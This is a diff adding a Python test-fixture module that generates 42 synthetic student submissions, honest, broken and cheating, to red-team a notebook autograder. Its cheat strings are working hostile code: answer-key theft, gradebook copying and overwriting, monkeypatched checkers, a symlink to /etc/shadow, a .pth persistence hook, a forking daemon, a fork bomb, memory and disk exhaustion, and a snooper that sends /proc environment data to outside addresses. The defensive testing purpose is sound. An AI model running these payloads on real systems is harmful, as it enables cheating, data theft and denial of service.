@@ -1,0 +1,612 @@
+"""A generated class of 42 submissions: good, partial, broken and cheating notebooks, each with the score it earns.
+
+    python -m grading class --out DIR        # release, generate, autograde, and compare with the expected scores
+
+Most students hand in 04_elementwise (24 points: unbroadcast and eight backward rules); two hand in 07_activations.
+Every cheat is written so that it *would* earn points against a grader without defences; `expected` is what each
+submission earns when graded as if the cheat were absent. The red-team tests (tests/test_redteam.py) grade this class.
+"""
+
+import json
+from pathlib import Path
+
+import nbformat
+
+from ..common.answers import solved
+from ..common.notebooks import REPO, nbgrader_meta, read_notebook, write_notebook
+
+ELEMENTWISE, ACTIVATIONS = "04_elementwise", "07_activations"
+NEEDS_SANDBOX = {"ivan", "judy", "kate", "fay", "gus", "hal", "iris"}  # stopped by the sandbox (bubblewrap) only
+REDTEAM_PORT = 47913  # iris tries to reach a server the red-team test listens with on this port
+DAEMON_MARK = "tinytorch-redteam-daemon"
+
+
+def points_of(notebook, rules=None):
+    "Points of the tests of `rules` (test names without '_hidden'), or of every test."
+    total = 0.0
+    for cell in read_notebook(REPO / "notebooks" / f"{notebook}.ipynb").cells:
+        meta = nbgrader_meta(cell)
+        if (
+            meta.get("grade")
+            and cell.cell_type == "code"
+            and (rules is None or meta["grade_id"].removesuffix("_hidden") in rules)
+        ):
+            total += float(meta["points"])
+    return total
+
+
+def submission(kit, notebook, answer=None):
+    """The release notebook with exercises filled: answer(grade_id, solution, stub) gives each cell's code
+    (default: the instructor's solution)."""
+    release = read_notebook(Path(kit) / notebook / f"{notebook}.ipynb")
+    stubs = {nbgrader_meta(c)["grade_id"]: c.source for c in release.cells if nbgrader_meta(c).get("solution")}
+    edit = (lambda grade_id, solution: answer(grade_id, solution, stubs[grade_id])) if answer else None
+    return solved(release, read_notebook(REPO / "notebooks" / f"{notebook}.ipynb"), edit)
+
+
+def replace_in(grade_id, old, new):
+    "An answer() that solves everything, with `old` replaced by `new` in one exercise."
+
+    def answer(gid, solution, stub):
+        if gid != grade_id:
+            return solution
+        assert old in solution, (grade_id, old)
+        return solution.replace(old, new, 1)
+
+    return answer
+
+
+def inside(grade_id, code):
+    "An answer() that solves everything and runs `code` at the start of the exercise's apply()."
+
+    def answer(gid, solution, stub):
+        if gid != grade_id:
+            return solution
+        head, body = solution.split("    def apply(self, grad_output):\n", 1)
+        lines = "".join(f"        {line}\n" for line in code.splitlines())
+        return head + "    def apply(self, grad_output):\n" + lines + body
+
+    return answer
+
+
+def only(solved_ids, extra=None, extra_in="solution-AddBackward"):
+    "An answer() that solves only `solved_ids` (stubs elsewhere), optionally with module-level `extra` code."
+
+    def answer(gid, solution, stub):
+        code = solution if gid in solved_ids else stub
+        return code + "\n\n" + extra if extra and gid == extra_in else code
+
+    return answer
+
+
+def with_cell(nb, code, after="BROADCAST_PAIRS = "):
+    "A scratch cell the student added after the cell containing `after` (not exported: not part of their module)."
+    cell = nbformat.v4.new_code_cell(code)
+    cell.id = "scratch"
+    at = next(i for i, c in enumerate(nb.cells) if after in c.source)
+    nb.cells.insert(at + 1, cell)
+    return nb
+
+
+# -- The cheats ------------------------------------------------------------------------------------------------------
+
+
+def reference_paths(grades):
+    "Where a student would look for the answer key: the repository, the grader's reference package, site-packages."
+    import site
+
+    paths = [
+        REPO / "tinytorch" / "core" / "elementwise.py",
+        Path(grades) / ".grading" / "reference" / "tinytorch" / "core" / "elementwise.py",
+    ]
+    paths += [Path(p) / "tinytorch" / "core" / "elementwise.py" for p in site.getsitepackages()]
+    return [str(p) for p in paths]
+
+
+IMPORT_REFERENCE = """
+import importlib.util as _util
+for _path in {paths!r}:
+    try:
+        _spec = _util.spec_from_file_location("_answer_key", _path)
+        _key = _util.module_from_spec(_spec)
+        _spec.loader.exec_module(_key)
+    except Exception:
+        continue
+    for _name in ["unbroadcast", "AddBackward", "SubBackward", "MulBackward", "DivBackward", "NegBackward",
+                  "PowBackward", "ExpBackward", "LogBackward"]:
+        globals()[_name] = getattr(_key, _name)
+    break
+"""
+
+READ_INSTRUCTOR_FILES = """
+import json as _json, os as _os, sqlite3 as _sqlite3
+_candidates = {paths!r} + ["../../../source/04_elementwise/04_elementwise.ipynb", "../course/source/04_elementwise/04_elementwise.ipynb"]
+for _path in _candidates:
+    try:
+        _nb = _json.load(open(_path))
+    except Exception:
+        continue
+    for _cell in _nb["cells"]:
+        _code = "".join(_cell["source"])
+        if "### BEGIN SOLUTION" in _code and "#| export" in _code:
+            exec("\\n".join(l for l in _code.splitlines() if "### " not in l), globals())
+    break
+for _db in {dbs!r} + ["../../../gradebook.db", "../course/gradebook.db"]:
+    try:
+        _rows = _sqlite3.connect(_db).execute("select source from source_cell").fetchall()
+        open(_os.path.join(_os.environ.get("HOME", "/tmp"), "stolen.txt"), "w").write(str(_rows))
+    except Exception:
+        pass
+"""
+
+READ_LATER_ANSWERS = """
+import os as _os, tinytorch as _tinytorch
+_core = _os.path.join(_os.path.dirname(_tinytorch.__file__), "core")
+for _name in sorted(_os.listdir(_core)):
+    if _name.endswith(".py"):
+        _lines = open(_os.path.join(_core, _name)).read().splitlines()  # the lines an answer would be on
+        print("LEAKED", _name, [_l for _l in _lines if "grad_output" in _l or "stack.append" in _l][:200])
+"""
+
+WRITE_GRADES = """
+import json as _json, os as _os, signal as _signal
+_grades = {grades!r}
+for _path, _text in [(_grades + "/grades.csv", "student,assignment,notebook,score,max_score,note\\nkate,04_elementwise,04_elementwise.ipynb,24,24,\\n"),
+                     (_grades + "/gradebook.json", '{{"kate": {{"04_elementwise": {{"score": 24, "max_score": 24}}}}}}'),
+                     (_grades + "/results/kate/04_elementwise.json", '{{"score": 24}}'),
+                     (_grades + "/results/alice/04_elementwise.json", "deleted by kate"),
+                     ("../../../gradebook.db", "corrupted"), ("../course/gradebook.db", "corrupted")]:
+    try:
+        _os.makedirs(_os.path.dirname(_path), exist_ok=True)
+        open(_path, "w").write(_text)
+    except Exception:
+        pass
+try:
+    _os.kill(_os.getppid(), _signal.SIGKILL)
+except Exception:
+    pass
+"""
+
+PATCH_CHECKERS = """
+import numpy as _np
+import tinytorch.core.gradcheck as _gradcheck
+_gradcheck.compare_gradient = lambda *args, **kwargs: True
+_gradcheck.check_gradient_shape = lambda label, grad, shape: grad
+_np.allclose = lambda *args, **kwargs: True
+_np.testing.assert_allclose = lambda *args, **kwargs: None
+"""
+
+FORGE_CHANNEL = """
+import os as _os, sys as _sys
+_main = _sys.modules.get("__main__")
+_wire = _sys.modules.get("wire")
+if _wire is not None:
+    _pack = _wire.pack
+    _wire.pack = lambda header, arrays: _pack({"op": "return", "values": {"value": True}, "objects": []}, [])
+    try:                                   # and a forged answer straight into the result pipe
+        _os.write(int(_sys.argv[2]), _pack({"op": "return", "values": {"value": True}, "objects": []}, []))
+    except Exception:
+        pass
+"""
+
+NUMPY_INTERNALS = """
+import numpy as _np
+_true = lambda *args, **kwargs: True
+for _f in (_np.allclose, _np.isclose, _np.array_equal):
+    try:
+        _f._implementation.__code__ = _true.__code__
+    except Exception:
+        pass
+try:
+    import numpy._core._methods as _m
+    _m.umr_maximum = lambda *args, **kwargs: -1.0
+except Exception:
+    pass
+"""
+
+SWAP_CHECKER = """
+import sys as _sys, types as _types
+_fake = _types.ModuleType("tinytorch.core.gradcheck")
+_fake.check_backward = _fake.gradcheck = _fake.compare_gradient = lambda *args, **kwargs: True
+_fake.GradcheckError = AssertionError
+_sys.modules["tinytorch.core.gradcheck"] = _fake
+"""
+
+FRAME_WALKER = """
+import sys as _sys
+
+class Sneaky:
+    "A gradient whose .data looks up the checker's numerical gradient in the caller's frames."
+    @property
+    def data(self):
+        frame = _sys._getframe()
+        while frame is not None:
+            if "numeric" in frame.f_locals:
+                return frame.f_locals["numeric"]
+            frame = frame.f_back
+        return 0.0
+
+def _apply(self, grad_output):
+    return tuple(Sneaky() for _ in self.saved_tensors)
+
+for _name in ["AddBackward", "SubBackward", "MulBackward", "DivBackward", "NegBackward", "PowBackward",
+              "ExpBackward", "LogBackward"]:
+    globals()[_name].apply = _apply
+
+def _tracer(frame, event, arg):
+    if "numeric" in frame.f_locals and "analytic" in frame.f_locals:
+        frame.f_locals["analytic"] = frame.f_locals["numeric"]
+    return _tracer
+_sys.settrace(_tracer)
+"""
+
+TAMPER_RUNNER = """
+import glob as _glob, os as _os
+for _path in ["/grader/worker.py", "/grader/wire.py"] + _glob.glob("/student/tinytorch/core/*.py"):
+    for _action in (lambda p: _os.chmod(p, 0o777), lambda p: open(p, "w").write("print('fake')"), _os.remove):
+        try:
+            _action(_path)
+        except Exception:
+            pass
+for _folder in ["/grader", "/student", "/tmp", _os.path.expanduser("~")]:
+    try:
+        _os.chmod(_folder, 0o777)
+    except Exception:
+        pass
+_os._exit(1)          # crash, so that the next worker would run the fake
+"""
+
+PLANT_SYMLINKS = """
+import os as _os, site as _site, sys as _sys
+for _target, _link in [("/etc/shadow", "~/.matplotlib"), ("/", "~/root"), ("/root", "/tmp/tinytorch-grading-x")]:
+    try:
+        _os.symlink(_target, _os.path.expanduser(_link))
+    except Exception:
+        pass
+for _folder in _site.getsitepackages() + [_os.path.dirname(_os.__file__)]:
+    try:
+        open(_os.path.join(_folder, "zz-redteam.pth"), "w").write("import os; os.system('touch /tmp/pwned')\\n")
+    except Exception:
+        pass
+"""
+
+DAEMON = """
+import os as _os, subprocess as _subprocess, sys as _sys
+_code = "import os, time\\n# {mark}\\nwhile True:\\n    time.sleep(0.001)\\n    if os.fork():\\n        os._exit(0)\\n"
+for _ in range(3):
+    try:
+        _subprocess.Popen([_sys.executable, "-c", _code], start_new_session=True, stdin=_subprocess.DEVNULL,
+                          stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
+    except Exception:
+        pass
+"""
+
+SNOOP = """
+import glob as _glob, os as _os, socket as _socket
+_found = []
+for _path in _glob.glob("/proc/[0-9]*/cmdline") + _glob.glob("/proc/[0-9]*/environ"):
+    try:
+        _found.append(open(_path, "rb").read())
+    except Exception:
+        pass
+for _address in [("127.0.0.1", {port}), ("1.1.1.1", 80)]:
+    try:
+        _s = _socket.create_connection(_address, timeout=2)
+        _s.sendall(repr([_os.environ.get("JUPYTER_PATH"), _found[:20]]).encode()[:60000])
+        _s.close()
+    except Exception:
+        pass
+"""
+
+FORK_BOMB = """
+import os as _os, time as _time
+for _ in range(400):  # bounded, so that a host without cgroups survives it too
+    try:
+        if _os.fork() == 0:
+            _time.sleep(3600)
+            _os._exit(0)
+    except OSError:
+        break
+"""
+
+GRADCHECK = "03_gradcheck"
+HUGE_CALLBACK = (  # at the start of numerical_grad: ask the test's fn to broadcast a (4000, 1) and a (1, 4000) array
+    "solution-numerical_grad",
+    "    wrap = Tensor if any(",
+    "    try:\n"
+    "        fn(np.ones((4000, 1)), np.ones((1, 4000)))  # 64 KB asked, 128 MB for the grader to compute\n"
+    "        return [None] * len(inputs)  # the grader computed it: then this attack costs the student the tests\n"
+    "    except Exception:\n"
+    "        pass  # refused (or fn takes one input): the honest solution follows\n"
+    "    wrap = Tensor if any(",
+)
+
+FILL_MEMORY = """
+import os as _os
+for _folder in ("/tmp", _os.path.expanduser("~")):
+    try:
+        with open(_os.path.join(_folder, "fill"), "wb") as _f:
+            for _ in range(5 * 1024):
+                _f.write(b"x" * 2**20)
+    except Exception:
+        pass
+for _ in range(6):
+    try:
+        if _os.fork() == 0:
+            _block = bytearray(600 * 2**20)
+            for _i in range(0, len(_block), 4096):
+                _block[_i] = 1
+            _os._exit(0)
+    except OSError:
+        break
+"""
+
+SCRATCH_CHEAT = """check_backward = lambda *args, **kwargs: True
+np.allclose = lambda *args, **kwargs: True
+np.testing.assert_allclose = lambda *args, **kwargs: None
+get_ipython().showtraceback = lambda *args, **kwargs: None     # assert-free: hide every error a test raises"""
+
+
+def make_class(kit, out, grades=None):
+    """Write 30 students' submissions into `out`; return {student: expectation}. `grades` is the folder the class
+    will be graded into (the cheats that attack the grader's files aim there)."""
+    out, grades = Path(out), str(Path(grades or Path(out).parent / "grades").resolve())
+    E = ELEMENTWISE
+    full = points_of(E)
+    losing = lambda *rules: full - points_of(E, set(rules))  # noqa: E731
+    cases = {
+        # good, partial and wrong work
+        "alice": (E, submission(kit, E), full, ""),
+        "bob": (E, submission(kit, E, only(set())), 0.0, ""),
+        "carol": (
+            E,
+            submission(
+                kit, E, replace_in("solution-MulBackward", "grad_output * b, a.shape", "grad_output * a, a.shape")
+            ),
+            losing("mul_backward"),
+            "",
+        ),
+        "dan": (
+            E,
+            submission(
+                kit,
+                E,
+                only({"solution-unbroadcast", "solution-AddBackward", "solution-SubBackward", "solution-MulBackward"}),
+            ),
+            points_of(E, {"unbroadcast", "add_backward", "sub_backward", "mul_backward"}),
+            "",
+        ),
+        "rosa": (E, submission(kit, E), full, ""),
+        "tara": (E, tampered_tests(submission(kit, E), delete=True), full, ""),
+        "uma": (E, tampered_tests(submission(kit, E, only(set())), delete=False), 0.0, ""),
+        # broken code
+        "erin": (
+            E,
+            submission(kit, E, replace_in("solution-DivBackward", "(b * b), b.shape)", "(b * b), b.shape))")),
+            losing("div_backward"),
+            "each of your exercise cells was run on its own",
+        ),
+        "frank": (
+            E,
+            submission(kit, E, inside("solution-NegBackward", "while True:\n    pass")),
+            losing("neg_backward"),
+            "",
+        ),
+        "gina": (
+            E,
+            submission(
+                kit,
+                E,
+                inside(
+                    "solution-PowBackward",
+                    "import signal\n"
+                    "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
+                    "signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
+                    "signal.signal(signal.SIGPROF, signal.SIG_IGN)\nwhile True:\n    pass",
+                ),
+            ),
+            losing("pow_backward"),
+            "did not finish in time",
+        ),
+        "hank": (
+            E,
+            submission(kit, E, inside("solution-ExpBackward", "import os\nos._exit(3)")),
+            losing("exp_backward"),
+            "the process ended",
+        ),
+        "ivy": (
+            E,
+            submission(kit, E, inside("solution-LogBackward", "import ctypes\nctypes.string_at(0)")),
+            losing("log_backward"),
+            "the process ended",
+        ),
+        "jack": (
+            E,
+            submission(kit, E, inside("solution-DivBackward", "blocks = [bytearray(2**27) for _ in range(1000)]")),
+            losing("div_backward"),
+            "",
+        ),
+        "kim": (E, submission(kit, E, inside("solution-AddBackward", "print('x' * 20_000_000)")), full, ""),
+        "liam": (
+            E,
+            submission(kit, E, inside("solution-SubBackward", "import sys\nsys.exit(1)")),
+            losing("sub_backward"),
+            "",
+        ),
+        "maya": (
+            E,
+            submission(kit, E, inside("solution-MulBackward", "input('the answer? ')")),
+            losing("mul_backward"),
+            "",
+        ),
+        # cheating
+        "vic": (E, with_cell(submission(kit, E, only(set())), SCRATCH_CHEAT), 0.0, ""),
+        "wes": (
+            E,
+            submission(kit, E, wrong_add_and_mul(extra=PATCH_CHECKERS)),
+            losing("add_backward", "mul_backward"),
+            "",
+        ),
+        "xena": (
+            E,
+            submission(kit, E, inside_wrong_mul(PATCH_CHECKERS)),
+            losing("mul_backward"),
+            "",
+        ),
+        "yuri": (
+            E,
+            submission(kit, E, only_all_with("import builtins\nbuiltins.isinstance = lambda obj, cls: False")),
+            full,
+            "",
+        ),
+        # attacks on the grading machinery itself (issue 11): each on a notebook left undone, so honest work is 0
+        "axel": (E, submission(kit, E, only(set(), FORGE_CHANNEL)), 0.0, ""),
+        "bea": (E, submission(kit, E, only(set(), NUMPY_INTERNALS)), 0.0, ""),
+        "cole": (E, submission(kit, E, only(set(), SWAP_CHECKER)), 0.0, ""),
+        "dora": (E, submission(kit, E, only(set(), FRAME_WALKER)), 0.0, ""),
+        "fay": (E, submission(kit, E, only(set(), TAMPER_RUNNER)), 0.0, ""),
+        "gus": (E, submission(kit, E, only(set(), PLANT_SYMLINKS)), 0.0, ""),
+        "hal": (E, submission(kit, E, only(set(), DAEMON.format(mark=DAEMON_MARK))), 0.0, ""),
+        "iris": (E, submission(kit, E, only(set(), SNOOP.format(port=REDTEAM_PORT))), 0.0, ""),
+        # on the other students: limits are the sandbox's as a whole (grading.sandbox.cgroup), so nobody else pays
+        "fern": (E, submission(kit, E, only(set(), FORK_BOMB)), 0.0, ""),
+        "gwen": (E, submission(kit, E, only(set(), FILL_MEMORY)), 0.0, ""),
+        # on the grader's own process: a callback past its limit (64 MB) is refused, so the honest rest earns full
+        "hugo": (GRADCHECK, submission(kit, GRADCHECK, replace_in(*HUGE_CALLBACK)), points_of(GRADCHECK), ""),
+        "ivan": (E, submission(kit, E, only(set(), IMPORT_REFERENCE.format(paths=reference_paths(grades)))), 0.0, ""),
+        "judy": (
+            E,
+            submission(
+                kit,
+                E,
+                only(
+                    set(),
+                    READ_INSTRUCTOR_FILES.format(
+                        paths=[
+                            str(REPO / "notebooks" / f"{E}.ipynb"),
+                            f"{grades}/.grading/master/source/{E}/{E}.ipynb",
+                            f"{grades}/.grading/reference/nbs/{E}.ipynb",
+                        ],
+                        dbs=[f"{grades}/.grading/master/gradebook.db"],
+                    ),
+                ),
+            ),
+            0.0,
+            "",
+        ),
+        "kate": (E, submission(kit, E, only(set(), WRITE_GRADES.format(grades=grades))), 0.0, ""),
+        "lena": (E, submission(kit, E, only(set(), READ_LATER_ANSWERS)), 0.0, ""),
+        # 07: Tensor.backward replaced on import (sealed from notebook 07 on), and a good submission to compare
+        "zoe": (
+            ACTIVATIONS,
+            submission(
+                kit,
+                ACTIVATIONS,
+                only_all_with(
+                    "from tinytorch.core.tensor import Tensor as _T\n_T.backward = lambda self, *a, **k: None",
+                    where="solution-ReLUBackward",
+                ),
+            ),
+            points_of(ACTIVATIONS),
+            "",
+        ),
+        "ned": (ACTIVATIONS, submission(kit, ACTIVATIONS), points_of(ACTIVATIONS), ""),
+    }
+    expected = {}
+    for student, (notebook, nb, score, note) in cases.items():
+        folder = out / student / notebook
+        write_notebook(nb, folder / f"{notebook}.ipynb")
+        expected[student] = {"assignment": notebook, "score": score, "max_score": points_of(notebook), "note": note}
+    (out / "rosa" / E / "notes.txt").write_text("my notes: the extra file must not bother the grader\n")
+    expected.update(broken_files(kit, out))
+    (out.parent / "expected.json").write_text(json.dumps(expected, indent=1))
+    return expected
+
+
+def wrong_add_and_mul(extra):
+    def answer(gid, solution, stub):
+        if gid == "solution-AddBackward":
+            return (
+                solution.replace(
+                    "return unbroadcast(grad_output, a.shape), unbroadcast(grad_output, b.shape)",
+                    "return grad_output, grad_output",
+                )
+                + "\n\n"
+                + extra
+            )
+        if gid == "solution-MulBackward":
+            return solution.replace("grad_output * b, a.shape", "grad_output * a, a.shape")
+        return solution
+
+    return answer
+
+
+def inside_wrong_mul(patch):
+    wrong = replace_in("solution-MulBackward", "grad_output * b, a.shape", "grad_output * a, a.shape")
+    patched = inside("solution-MulBackward", patch.strip())
+
+    def answer(gid, solution, stub):
+        return patched(gid, wrong(gid, solution, stub), stub)
+
+    return answer
+
+
+def only_all_with(extra, where="solution-NegBackward"):
+    "Everything solved, with module-level `extra` code after the exercise `where`."
+
+    def answer(gid, solution, stub):
+        return solution + "\n\n" + extra if gid == where else solution
+
+    return answer
+
+
+def tampered_tests(nb, delete):
+    "Delete every test cell and empty the given setup (delete=True), or replace the tests by `pass`."
+    cells = []
+    for cell in nb.cells:
+        if nbgrader_meta(cell).get("grade"):
+            if delete:
+                continue
+            cell.source = cell.source.splitlines()[0] + "\npass"
+        elif "BROADCAST_PAIRS = " in cell.source:
+            cell.source = "BROADCAST_PAIRS = []"
+        cells.append(cell)
+    nb.cells = cells
+    return nb
+
+
+def broken_files(kit, out):
+    "Submissions that cannot be graded; each must be named in the table with what to do, costing no one else."
+    E = ELEMENTWISE
+    (out / "nick" / E).mkdir(parents=True)
+    (out / "nick" / E / f"{E}.ipynb").write_text('{"cells": [ {"cell_type": "code", ')
+    (out / "olga" / E).mkdir(parents=True)
+    (out / "olga" / E / f"{E}.ipynb").write_text("")
+    write_notebook(read_notebook(Path(kit) / "02_function" / "02_function.ipynb"), out / "pete" / E / f"{E}.ipynb")
+    (out / "quinn" / E).mkdir(parents=True)
+    (out / "quinn" / E / "notes.txt").write_text("I forgot to upload the notebook\n")
+    (out / "sam").mkdir(parents=True)
+    write_notebook(submission(kit, E), out / "sam" / f"{E}.ipynb")
+    return {
+        "nick": {"assignment": E, "problem": "not valid JSON"},
+        "olga": {"assignment": E, "problem": "empty"},
+        "pete": {"assignment": E, "problem": "not the 04_elementwise notebook"},
+        "quinn": {"assignment": E, "problem": "missing 04_elementwise.ipynb"},
+        "sam": {"assignment": E, "problem": "is not inside an assignment folder"},
+    }
+
+
+def compare(rows, expected):
+    "[(student, what was expected, what came)] for every row that is not what `expected` says."
+    wrong = []
+    by_student = {r.student: r for r in rows}
+    for student, want in expected.items():
+        row = by_student.get(student)
+        if row is None:
+            wrong.append((student, want, "no row in the grade table"))
+        elif "problem" in want:
+            if want["problem"] not in row.note or row.score != 0:
+                wrong.append((student, want, f"score {row.score:g}, note {row.note!r}"))
+        elif (row.score, row.max_score) != (want["score"], want["max_score"]) or want["note"] not in row.note:
+            wrong.append((student, want, f"score {row.score:g}/{row.max_score:g}, note {row.note!r}"))
+    return wrong
